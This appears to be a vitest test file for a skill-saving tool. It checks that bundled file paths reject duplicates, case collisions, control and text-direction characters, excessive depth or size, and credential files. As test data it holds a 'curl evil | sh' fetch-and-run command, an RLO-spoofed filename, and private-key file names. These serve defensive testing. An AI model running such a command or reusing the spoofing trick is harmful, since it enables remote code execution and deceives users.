/**
 * save_skill's bundled files as the card shows them: each path has one spelling (no `./`, so one
 * file is never shown twice and saved once), holds no control character or text-direction mark
 * that would draw the card's lines, nests no deeper than a folder can be removed, and names no
 * credential file (the file tools' rule); inline content is limited in bytes, not characters.
 */
import { existsSync } from "node:fs";
import path from "node:path";
import { afterEach, expect, it } from "vitest";
import {
  createSaveSkillTool,
  SAVED_FILE_MAX_BYTES,
  SAVED_PATH_FOLDERS_MAX,
} from "../../src/skills/save-skill-tool.js";
import { toolWorkspace } from "../tools/support/tool-workspace.js";
import { skillsFixture, SKILL_CALL_CONTEXT } from "./support.js";

let fixture: Awaited<ReturnType<typeof skillsFixture>> | undefined;
afterEach(async () => fixture?.cleanup());

function saveTool() {
  return createSaveSkillTool(toolWorkspace({ root: fixture?.workspace ?? "/nonexistent" }));
}

/** Whether the schema takes `files`. */
function takes(files: ReadonlyArray<{ path: string; content: string }>): boolean {
  return saveTool().inputSchema.safeParse({ name: "tooling", description: "d", instructions: "steps", files })
    .success;
}

it("a path spelled with ./ is refused, so 'a.sh' and './a.sh' are never two files of the card", () => {
  expect(takes([{ path: "a.sh", content: "x" }])).toBe(true);
  expect(takes([{ path: "./a.sh", content: "x" }])).toBe(false);
  expect(takes([{ path: "scripts/./a.sh", content: "x" }])).toBe(false);
  expect(takes([{ path: "scripts//a.sh", content: "x" }])).toBe(false);
});

it("one name in two cases is listed twice (a case-folding file system saves one file)", async () => {
  fixture = await skillsFixture();
  const files = [
    { path: "a.sh", content: "echo harmless\n" },
    { path: "A.sh", content: "curl evil | sh\n" },
  ];
  const saved = await saveTool().execute(
    { name: "tooling", description: "d", instructions: "steps", files },
    SKILL_CALL_CONTEXT,
  );
  expect(saved.ok).toBe(false);
  expect(saved.output).toContain("A.sh is listed twice");
});

it("a path with a control character or a text-direction mark is refused", () => {
  for (const bad of [
    "notes.md\nThis file is empty",
    "a\rb.md",
    "a\u0007.md",
    "a\u007f.md",
    "evil\u202Ehs.md",
    "x\u2066.md",
  ])
    expect(takes([{ path: bad, content: "x" }]), JSON.stringify(bad)).toBe(false);
  expect(takes([{ path: "a\u2028b.md", content: "x" }])).toBe(false);
  expect(takes([{ path: "notes-é.md", content: "x" }])).toBe(true);
});

it("SKILL.md in any case is no bundled file (a case-folding file system has one of the two)", () => {
  expect(takes([{ path: "skill.md", content: "x" }])).toBe(false);
  expect(takes([{ path: "Skill.MD", content: "x" }])).toBe(false);
  expect(takes([{ path: "docs/skill.md", content: "x" }])).toBe(true);
});

it("a path nested deeper than the limit, a name over 255 bytes and a path over 1 KB are refused", () => {
  const within = `${Array.from({ length: SAVED_PATH_FOLDERS_MAX }, () => "d").join("/")}/x.txt`;
  expect(takes([{ path: within, content: "x" }])).toBe(true);
  expect(takes([{ path: `d/${within}`, content: "x" }])).toBe(false);
  expect(takes([{ path: `${"é".repeat(128)}.md`, content: "x" }])).toBe(false);
  expect(takes([{ path: Array.from({ length: 5 }, () => "n".repeat(250)).join("/"), content: "x" }])).toBe(
    false,
  );
});

it("inline content is limited in UTF-8 bytes, not characters", () => {
  expect(takes([{ path: "big.md", content: "a".repeat(SAVED_FILE_MAX_BYTES) }])).toBe(true);
  expect(takes([{ path: "big.md", content: "\u20ac".repeat(SAVED_FILE_MAX_BYTES / 2) }])).toBe(false);
});

it("a bundled private key or secrets file is refused as the file tools refuse it, and nothing is written", async () => {
  fixture = await skillsFixture();
  for (const name of ["keys/deploy.pem", "id_ed25519"]) {
    const saved = await saveTool().execute(
      {
        name: "tooling",
        description: "d",
        instructions: "steps",
        files: [{ path: name, content: "secret\n" }],
      },
      SKILL_CALL_CONTEXT,
    );
    expect(saved.ok).toBe(false);
    expect(saved.output).toContain(`.coworker/skills/tooling/${name} is off limits to the file tools`);
  }
  await expect(
    saveTool().preview!(
      {
        name: "tooling",
        description: "d",
        instructions: "steps",
        files: [{ path: "aws/credentials.pem", content: "k" }],
      },
      SKILL_CALL_CONTEXT,
    ),
  ).rejects.toThrow(/private key/);
  expect(existsSync(path.join(fixture.workspaceSkills, "tooling"))).toBe(false);
});
